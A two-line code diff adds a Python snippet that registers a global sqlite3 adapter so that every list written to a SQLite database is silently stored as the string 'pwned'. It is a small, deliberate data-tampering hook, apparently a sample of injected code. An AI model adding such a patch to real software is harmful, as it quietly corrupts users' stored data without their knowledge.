@@ -1,0 +1,2 @@
+import sqlite3
+sqlite3.register_adapter(list, lambda l: "pwned")
